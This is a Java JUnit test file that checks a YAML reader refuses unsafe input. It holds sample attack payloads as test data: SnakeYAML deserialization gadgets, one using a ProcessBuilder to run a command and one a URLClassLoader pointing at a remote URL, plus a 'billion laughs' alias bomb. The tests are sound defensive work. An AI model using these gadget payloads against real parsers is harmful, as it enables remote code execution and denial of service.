package io.plateau.util;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** YAML is read as data: no tag creates an object, no alias expands, a key is given once, and sizes are bounded. */
class YamlReaderTest {

  @TempDir
  Path dir;

  private static YamlReader.Document parse(String text) {
    return YamlReader.parse(text.getBytes(StandardCharsets.UTF_8), "conf/x.yaml");
  }

  private static String refusal(String text) {
    return assertThrows(InputException.class, () -> parse(text)).getMessage();
  }

  @Test
  void plainDataIsReadWithTheLineOfEveryKeyPath() {
    YamlReader.Document document = parse("""
        name: x
        bars:
          store: data/bars
          symbols: [MES, M2K]
        list:
          - a
          - {b: 1}
        """);
    assertEquals("data/bars", document.root().get("bars").get("store").asText());
    assertEquals(1, document.lines().get("name"));
    assertEquals(2, document.lines().get("bars"));
    assertEquals(3, document.lines().get("bars.store"));
    assertEquals(4, document.lines().get("bars.symbols[1]"));
    assertEquals(6, document.lines().get("list[0]"));
    assertEquals(7, document.lines().get("list[1].b"));
  }

  @Test
  void yamlsCoreTagsAreData() {
    YamlReader.Document document = parse("a: !!str 12\nb: !!int '3'\nc: !!float 1.5\nd: !!bool true\ne: !!seq [1]\n");
    assertEquals("12", document.root().get("a").asText());
    assertTrue(document.root().get("a").isTextual());
    assertEquals(3, document.root().get("b").intValue());
  }

  /**
   * The gadgets of SnakeYAML's unsafe constructor (CVE-2022-1471 and the like): refused at their line, never
   * instantiated; a ProcessBuilder would have created the file.
   */
  @Test
  void aTagNamingAJavaClassIsRefusedAtItsLineAndCreatesNothing() {
    Path touched = dir.resolve("touched");
    String builder = refusal("name: x\nrun: !!java.lang.ProcessBuilder [[touch, " + touched + "]]\n");
    assertTrue(builder.startsWith("conf/x.yaml:2: the YAML tag '!!java.lang.ProcessBuilder' is not allowed"),
        builder);
    assertFalse(Files.exists(touched));
    String engine = refusal("name: x\n\nobjective: !!javax.script.ScriptEngineManager "
        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n");
    assertTrue(engine.startsWith("conf/x.yaml:3: the YAML tag '!!javax.script.ScriptEngineManager' is not allowed"),
        engine);
    String local = refusal("a: !custom value\n");
    assertTrue(local.startsWith("conf/x.yaml:1: the YAML tag '!custom' is not allowed"), local);
    String binary = refusal("a: !!binary aGVsbG8=\n");
    assertTrue(binary.contains("'!!binary' is not allowed"), binary);
  }

  /** "Billion laughs": nine levels of nine aliases would be 10^9 strings; the first anchor is refused. */
  @Test
  void anAliasBombIsRefusedAtItsFirstAnchor() {
    StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char level = 'b'; level <= 'i'; level++) {
      String previous = "*" + (char) (level - 1);
      bomb.append(level).append(": &").append(level).append(" [").append(String.join(",",
          java.util.Collections.nCopies(9, previous))).append("]\n");
    }
    String message = refusal(bomb.toString());
    assertTrue(message.startsWith("conf/x.yaml:1: the anchor '&a' is not allowed"), message);
    String alias = refusal("name: x\nother: *a\n");
    assertTrue(alias.startsWith("conf/x.yaml:2: the alias '*a' is not allowed"), alias);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "a: 1\\nb: 2\\na: 3\\n|conf/x.yaml:3: a: the key repeats (first at line 1)",
      "bars:\\n  store: x\\n  store: y\\n|conf/x.yaml:3: bars.store: the key repeats (first at line 2)",
      "a: 1\\n---\\nb: 2\\n|conf/x.yaml:3: a second YAML document",
      "a: [unclosed\\nb: 2\\n|not valid YAML",
  })
  void repeatedKeysASecondDocumentAndBrokenSyntaxAreRefused(String text, String expected) {
    String message = refusal(text.replace("\\n", "\n"));
    assertTrue(message.contains(expected), message);
  }

  @Test
  void deepNestingAndLargeFilesAreRefused() throws IOException {
    String deep = "a: " + "[".repeat(YamlReader.MAX_DEPTH) + "]".repeat(YamlReader.MAX_DEPTH) + "\n";
    String message = refusal(deep);
    assertTrue(message.contains("nested more than " + YamlReader.MAX_DEPTH + " levels"), message);
    parse("a: " + "[".repeat(YamlReader.MAX_DEPTH - 1) + "]".repeat(YamlReader.MAX_DEPTH - 1) + "\n");

    Path large = dir.resolve("large.yaml");
    Files.writeString(large, "a: 1\n#" + "x".repeat(YamlReader.MAX_BYTES) + "\n");
    InputException tooLarge = assertThrows(InputException.class, () -> YamlReader.readBytes(large));
    assertTrue(tooLarge.getMessage().startsWith(large + ": larger than " + YamlReader.MAX_BYTES + " bytes"),
        tooLarge.getMessage());
    InputException parsed = assertThrows(InputException.class,
        () -> YamlReader.parse(Files.readAllBytes(large), "large.yaml"));
    assertTrue(parsed.getMessage().contains("larger than"), parsed.getMessage());
  }
}
